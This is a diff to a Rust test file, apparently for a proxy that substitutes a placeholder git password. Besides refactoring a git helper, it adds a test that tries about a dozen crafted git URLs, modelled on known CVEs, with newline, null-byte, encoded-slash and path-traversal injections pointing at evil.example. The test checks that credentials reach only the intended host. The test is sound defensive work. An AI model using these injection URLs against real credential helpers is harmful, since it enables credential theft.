@@ -4,21 +4,22 @@ use std::process::Command;
 
 use super::{Bench, CANARY, Upstream};
 
+/// What git of this machine says.
+fn git(arguments: &[&str]) -> String {
+    let out = Command::new("git")
+        .args(arguments)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{arguments:?}: {out:?}");
+    String::from_utf8(out.stdout).unwrap()
+}
+
 #[test]
 fn git_clones_and_pushes_with_a_placeholder_for_its_password() {
     let bench = Bench::new();
     let folder = tempfile::tempdir().unwrap();
-    let bare = folder.path().join("docs.git");
-    let git = |arguments: &[&str]| {
-        let out = Command::new("git")
-            .args(arguments)
-            .env("GIT_CONFIG_GLOBAL", "/dev/null")
-            .output()
-            .unwrap();
-        assert!(out.status.success(), "{arguments:?}: {out:?}");
-        String::from_utf8(out.stdout).unwrap()
-    };
-    let path = bare.display().to_string();
+    let path = folder.path().join("docs.git").display().to_string();
     git(&["init", "--quiet", "--bare", "--initial-branch=main", &path]);
     git(&["--git-dir", &path, "config", "http.receivepack", "true"]);
     let upstream = Upstream::git(&bench.authority, folder.path());
@@ -39,6 +40,49 @@ fn git_clones_and_pushes_with_a_placeholder_for_its_password() {
     let said = bench.says(&[], &script);
     assert!(!said.contains(CANARY), "{said}");
     assert_eq!(git(&["--git-dir", &path, "log", "--format=%s", "main"]), "first\n");
+}
+
+#[test]
+fn t30_git_reaches_no_other_host_and_no_other_path_by_line_ends_in_a_url() {
+    let bench = Bench::new();
+    let folder = tempfile::tempdir().unwrap();
+    for name in ["docs.git", "other.git"] {
+        git(&["init", "--quiet", "--bare", &folder.path().join(name).display().to_string()]);
+    }
+    let upstream = Upstream::git(&bench.authority, folder.path());
+    bench.put(&upstream.host(), &["--send-as", "basic", "--path", "/git/docs.git/*"]);
+    let (host, port) = (upstream.host(), upstream.port);
+    let urls = [
+        // As in CVE-2020-5260, -11008 and 2024-52006: what git would write into a line of its protocol.
+        format!("https://x:$API@{host}%0ahost=evil.example/git/docs.git"),
+        format!("https://x:$API@{host}%0d%0ahost=evil.example/git/docs.git"),
+        format!("https://x%0ahost=evil.example:$API@{host}/git/docs.git"),
+        format!("https://x%0d:$API@{host}/git/docs.git"),
+        format!("https://x:$API%0d@{host}/git/docs.git"),
+        format!("https://x:$API@{host}/git/docs.git/%0d%0aHost:%20evil.example"),
+        format!("https://x:$API@{host}/git/docs.git/%00"),
+        format!("https://x:$API@{host}/git%2fdocs.git"),
+        format!("https://x:$API@{host}/git/docs.git/%2e%2e/other.git"),
+        format!("https://x:$API@localhost%3a{port}/git/docs.git"),
+        format!("https://x:$API@localhost%00.evil.example:{port}/git/docs.git"),
+    ];
+    // One that is as it should be comes through, so that the others are refused for what they are.
+    let good = format!("https://x:$API@{host}/git/docs.git");
+    let tries: String = urls
+        .iter()
+        .chain([&good])
+        .map(|url| format!("timeout 20 git ls-remote \"{url}\" 2>&1 || true\n"))
+        .collect();
+    let said = bench.says(&[], &format!("export GIT_TERMINAL_PROMPT=0 GIT_CONFIG_GLOBAL=/dev/null\n{tries}"));
+    assert!(!said.contains(CANARY), "{said}");
+    let seen = upstream.seen();
+    let with_it: Vec<_> = seen.iter().filter(|seen| seen.header("authorization").is_some()).collect();
+    // Two requests of the good one, and none of any other.
+    let targets: Vec<_> = with_it.iter().map(|seen| &*seen.target).collect();
+    let good = ["/git/docs.git/info/refs?service=git-upload-pack", "/git/docs.git/git-upload-pack"];
+    assert_eq!(targets, good, "{said}");
+    assert!(with_it.iter().all(|seen| seen.header("host") == Some(&*host)));
+    println!("T30: {} URLs", urls.len());
 }
 
 #[test]
